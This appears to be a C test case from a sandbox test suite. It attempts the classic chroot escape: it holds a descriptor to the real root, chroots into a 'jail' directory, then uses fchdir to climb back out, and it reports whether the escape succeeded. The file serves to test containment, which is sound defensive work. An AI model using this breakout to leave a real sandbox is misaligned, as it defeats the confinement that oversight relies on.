// attempt: climb out by way of a root that lies below the working directory
// wall: system calls
// control: without system calls
// proof: word
#include "escape.h"

int main(void) {
	struct stat before, after;
	int top = open("/", O_RDONLY | O_DIRECTORY);
	if (root_of_namespaces(0) < 0) stopped("unshare");
	if (stat("/", &before) < 0 || chdir(target("ZONE")) < 0) return stopped("chdir");
	mkdir("jail", 0700);
	if (chroot("jail") < 0) return stopped("chroot");
	if (fchdir(top) < 0 || stat("/", &after) < 0) return stopped("fchdir");
	return before.st_ino == after.st_ino ? 1 : escaped("the working directory is above the root");
}
